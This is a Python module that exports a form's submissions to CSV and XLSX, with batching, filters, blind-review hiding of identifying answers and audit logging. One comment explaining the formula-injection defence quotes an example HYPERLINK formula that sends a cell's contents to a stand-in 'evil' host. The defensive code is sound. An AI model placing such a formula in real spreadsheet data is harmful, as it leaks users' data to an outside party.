"""Exports of a form's submissions: one row per submission in submitted order, one column per
question in form order, then scores and tags. Rows are produced in batches (keyset pagination,
answers/scores/tags loaded per batch as plain tuples, no ORM objects kept), so memory stays flat
however many submissions a form has. Every cell is neutralised against formula injection.

Columns: reference, state, submitted at, last changed (both ISO 8601 in the form's time zone),
one per input question of the *current* version in form order, the weighted score and the number
of scorers when the form has a rubric, the tags — and last, one column per question that exists
only in earlier published versions, so an export never silently drops an answer someone gave."""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from typing import IO, Any
from zoneinfo import ZoneInfo

from flask_babel import gettext as _
from sqlalchemy import Select, and_, or_, select

from extensions import db
from forms.spec import FieldSpec, FormSpec
from models import (
    Answer,
    AuditEntry,
    Form,
    FormVersion,
    Submission,
    SubmissionTag,
    Tag,
    User,
)
from services.annotations import normalise_tag
from services.catalog import spec_for
from services.scoring import weighted_average
from services.search import clean_query, submission_matches
from workflows.engine import get_workflow

BATCH_SIZE = 1000
# Spreadsheets run a cell starting with one of these as a formula (tab and CR because some
# programs strip them first): `=HYPERLINK("http://evil/?"&A1)` in an answer would leak data.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CSV_CHUNK = 64 * 1024  # characters collected before a piece of the CSV is sent


class FilterError(ValueError):
    """A filter value that cannot be understood; the message is for the person."""


def neutralise(cell: str) -> str:
    """A leading apostrophe makes a would-be formula plain text."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


# --- filters ---------------------------------------------------------------------------------


def apply_filters(
    query: Select,
    filters: Mapping[str, Any],
    timezone: ZoneInfo,
    hidden_fields: dict[int, set[str]] | None = None,
) -> Select:
    """Narrow a query over `Submission` by a simple dict, blank values ignored:
    `state` (one or a list), `date_from` / `date_to` (YYYY-MM-DD, inclusive, days in the form's
    time zone), `tag` (a tag name), `q` (part of the reference or of an answer, through the
    dashboard's search; `hidden_fields` per form version are not searched — blind review)."""
    states = filters.get("state")
    states = [states] if isinstance(states, str) else [s for s in states or () if s]
    if states:
        query = query.where(Submission.state.in_(states))
    if day := _day(filters.get("date_from")):
        query = query.where(Submission.submitted_at >= _midnight(day, timezone))
    if day := _day(filters.get("date_to")):
        query = query.where(Submission.submitted_at < _midnight(day + timedelta(days=1), timezone))
    if tag := normalise_tag(filters.get("tag") or ""):
        tagged = select(SubmissionTag.submission_id).join(Tag, Tag.id == SubmissionTag.tag_id)
        query = query.where(Submission.id.in_(tagged.where(Tag.name == tag)))
    if clean_query(filters.get("q") or ""):
        query = query.where(submission_matches(filters["q"], hidden_fields))
    return query


def _day(text: Any) -> date | None:
    if not text:
        return None
    try:
        return date.fromisoformat(str(text).strip())
    except ValueError:
        raise FilterError(_("Enter dates like 2027-01-31.")) from None


def _midnight(day: date, timezone: ZoneInfo) -> datetime:
    return datetime.combine(day, time(), tzinfo=timezone)


# --- rows ------------------------------------------------------------------------------------


@dataclass
class _Column:
    name: str
    header: str
    field: FieldSpec  # used for submissions whose own version lacks the question


@dataclass
class _Plan:
    spec: FormSpec
    language: str
    columns: list[_Column]
    current: int  # the first `current` columns are the current version's questions
    fields_by_version: dict[int, dict[str, FieldSpec]]
    has_rubric: bool
    blind: bool  # identifying answers are left out (blind review, viewer not an admin)
    hidden_fields: dict[int, set[str]]  # per version, answers not searched when blind
    viewer_id: int | None
    state_labels: dict[str, str]


def export_rows(
    form_id: int,
    filters: Mapping[str, Any] | None = None,
    *,
    language: str | None = None,
    viewer: User | None = None,
    batch_size: int = BATCH_SIZE,
) -> Iterator[list[str]]:
    """The header row, then one row per submission, every cell neutralised.

    Checks the filters at once (FilterError), so a caller can refuse before streaming starts.
    With a `viewer`, the export holds what the dashboard shows them: in blind review answers
    marked `identifying` are left out (and not searched) unless the viewer is an admin, and the
    score average stays empty where they may not see it yet. Without one: everything."""
    form = db.session.get(Form, form_id)
    if form is None or form.current_version is None:
        raise LookupError(f"no published form {form_id}")
    spec = spec_for(form.current_version)
    query = select(
        Submission.id,
        Submission.reference,
        Submission.state,
        Submission.submitted_at,
        Submission.updated_at,
        Submission.form_version_id,
    ).where(Submission.form_id == form_id)
    plan = _plan(form, spec, language or spec.default_language, viewer)
    query = apply_filters(query, filters or {}, spec.timezone, plan.hidden_fields)
    return _rows(plan, query, batch_size)


def _plan(form: Form, spec: FormSpec, language: str, viewer: User | None) -> _Plan:
    language = spec.language_for(language)
    blind = bool(spec.raw.get("blind_review")) and not (viewer is not None and viewer.is_admin)
    versions = db.session.scalars(
        select(FormVersion).where(FormVersion.form_id == form.id).order_by(FormVersion.number)
    ).all()
    fields_by_version = {v.id: {f.name: f for f in spec_for(v).inputs} for v in versions}
    hidden_fields = {
        version_id: {name for name, f in fields.items() if _identifies(f)}
        for version_id, fields in fields_by_version.items()
        if blind
    }
    columns = [_Column(f.name, f.label(language), f) for f in spec.inputs if _shown(f, blind)]
    current = len(columns)
    seen = {f.name for f in spec.inputs}
    for version in reversed(versions):  # the newest wording of an old question
        for name, field in fields_by_version[version.id].items():
            if name not in seen and _shown(field, blind):
                header = _("%(label)s (earlier version)", label=field.label(language))
                columns.append(_Column(name, header, field))
            seen.add(name)
    workflow = get_workflow(spec.workflow)
    return _Plan(
        spec=spec,
        language=language,
        columns=columns,
        current=current,
        fields_by_version=fields_by_version,
        has_rubric=bool(spec.raw.get("rubric")),
        blind=blind,
        hidden_fields=hidden_fields,
        viewer_id=viewer.id if viewer is not None else None,
        state_labels={s: workflow.state_label(s, language) for s in workflow.states},
    )


def _shown(field: FieldSpec, blind: bool) -> bool:
    return not (blind and field.identifying)


def _identifies(field: FieldSpec) -> bool:
    """A group identifies when one of its fields does (searching it could find a name)."""
    return field.identifying or any(_identifies(child) for child in field.children)


def _header(plan: _Plan) -> list[str]:
    header = [_("Reference"), _("State"), _("Submitted at"), _("Last changed")]
    header += [c.header for c in plan.columns[: plan.current]]
    if plan.has_rubric:
        header += [_("Score (weighted average)"), _("Scorers")]
    header.append(_("Tags"))
    header += [c.header for c in plan.columns[plan.current :]]
    return header


def _rows(plan: _Plan, query: Select, batch_size: int) -> Iterator[list[str]]:
    yield [neutralise(cell) for cell in _header(plan)]
    # Loaded here, in the session the rows are read in: a streamed response reads them after
    # the view has returned and its session has closed.
    viewer = db.session.get(User, plan.viewer_id) if plan.viewer_id is not None else None
    order = (Submission.submitted_at, Submission.id)
    after: tuple[datetime, int] | None = None
    while True:
        page = query
        if after is not None:  # keyset: (submitted_at, id) greater than the last row sent
            page = page.where(
                or_(
                    Submission.submitted_at > after[0],
                    and_(Submission.submitted_at == after[0], Submission.id > after[1]),
                )
            )
        batch = db.session.execute(page.order_by(*order).limit(batch_size)).all()
        if not batch:
            return
        yield from _batch_rows(plan, batch, viewer)
        after = (batch[-1].submitted_at, batch[-1].id)
        if len(batch) < batch_size:
            return


def _batch_rows(plan: _Plan, batch: list, viewer: User | None) -> Iterator[list[str]]:
    ids = [row.id for row in batch]
    answers: dict[int, dict[str, Any]] = defaultdict(dict)
    for submission_id, name, value in db.session.execute(
        select(Answer.submission_id, Answer.field, Answer.value).where(
            Answer.submission_id.in_(ids)
        )
    ):
        answers[submission_id][name] = value
    tags: dict[int, list[str]] = defaultdict(list)
    for submission_id, name in db.session.execute(
        select(SubmissionTag.submission_id, Tag.name)
        .join(Tag, Tag.id == SubmissionTag.tag_id)
        .where(SubmissionTag.submission_id.in_(ids))
        .order_by(Tag.name)
    ):
        tags[submission_id].append(name)
    scores = _scores(ids, viewer) if plan.has_rubric else {}

    timezone = plan.spec.timezone
    for row in batch:
        own = plan.fields_by_version.get(row.form_version_id, {})
        given = answers.get(row.id, {})
        cells = [
            row.reference,
            plan.state_labels.get(row.state, row.state),
            _iso(row.submitted_at, timezone),
            _iso(row.updated_at, timezone),
        ]
        texts = [_cell(own.get(c.name, c.field), given.get(c.name), plan) for c in plan.columns]
        cells += texts[: plan.current]
        if plan.has_rubric:
            cells += scores[row.id]
        cells.append(", ".join(tags.get(row.id, ())))
        cells += texts[plan.current :]
        yield [neutralise(cell) for cell in cells]


def _scores(ids: list[int], viewer: User | None) -> dict[int, list[str]]:
    """[weighted average, number of scorers] as the dashboard shows them: the average stays
    empty where the viewer may not see it (a conflict of interest, or not scored yet)."""
    return {
        submission_id: ["" if average is None else f"{average:.2f}", str(count)]
        for submission_id, (average, count) in weighted_average(ids, for_user=viewer).items()
    }


def _iso(moment: datetime | None, timezone: ZoneInfo) -> str:
    return moment.astimezone(timezone).isoformat(timespec="seconds") if moment else ""


def _cell(field: FieldSpec, value: Any, plan: _Plan) -> str:
    if value is None:
        return ""
    if field.type != "group":
        return field.display(value, plan.language)
    item_label = field.text("item_label", plan.language) or _("Item")
    items = []
    for number, item in enumerate(value if isinstance(value, list) else [], start=1):
        parts = [
            child.display(item[child.name], plan.language)
            for child in field.children
            if child.is_input and item.get(child.name) is not None and _shown(child, plan.blind)
        ]
        items.append(f"{item_label} {number}: {', '.join(p for p in parts if p)}")
    return "; ".join(items)


# --- files -----------------------------------------------------------------------------------


def csv_chunks(rows: Iterable[list[str]]) -> Iterator[str]:
    """The CSV text in pieces of about 64 KB. It starts with a byte order mark: without it
    Excel reads UTF-8 as the local code page and garbles ą, ł, å, ö."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write("\ufeff")
    for row in rows:
        writer.writerow(row)
        if buffer.tell() >= CSV_CHUNK:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def write_xlsx(rows: Iterable[list[str]], target: IO[bytes], title: str) -> None:
    """An XLSX workbook onto `target`. Write-only mode streams each row to a temporary file as
    it is appended, so memory stays flat; the zip is assembled on save."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title[:31])
    sheet.freeze_panes = "A2"
    bold = Font(bold=True)
    for index, row in enumerate(rows):
        # Control characters (pasted from word processors) are not allowed in XLSX XML;
        # 32 767 characters is the most a cell holds.
        # Neutralised again: removing a control character may uncover a leading "=".
        cells = [neutralise(ILLEGAL_CHARACTERS_RE.sub("", cell))[:32767] for cell in row]
        if index == 0:
            header = []
            for text in cells:
                cell = WriteOnlyCell(sheet, value=text)
                cell.font = bold
                header.append(cell)
            sheet.append(header)
        else:
            sheet.append(cells)
    workbook.save(target)


def record_export(form_id: int, user: User, kind: str, filters: Mapping[str, Any]) -> None:
    """Exports carry personal data: who took which, with which filters, is logged."""
    db.session.add(
        AuditEntry(
            form_id=form_id,
            action="submissions.exported",
            actor_type="admin" if user.is_admin else "reviewer",
            actor_id=user.id,
            data={"format": kind, "filters": {k: v for k, v in filters.items() if v}},
        )
    )
    db.session.commit()
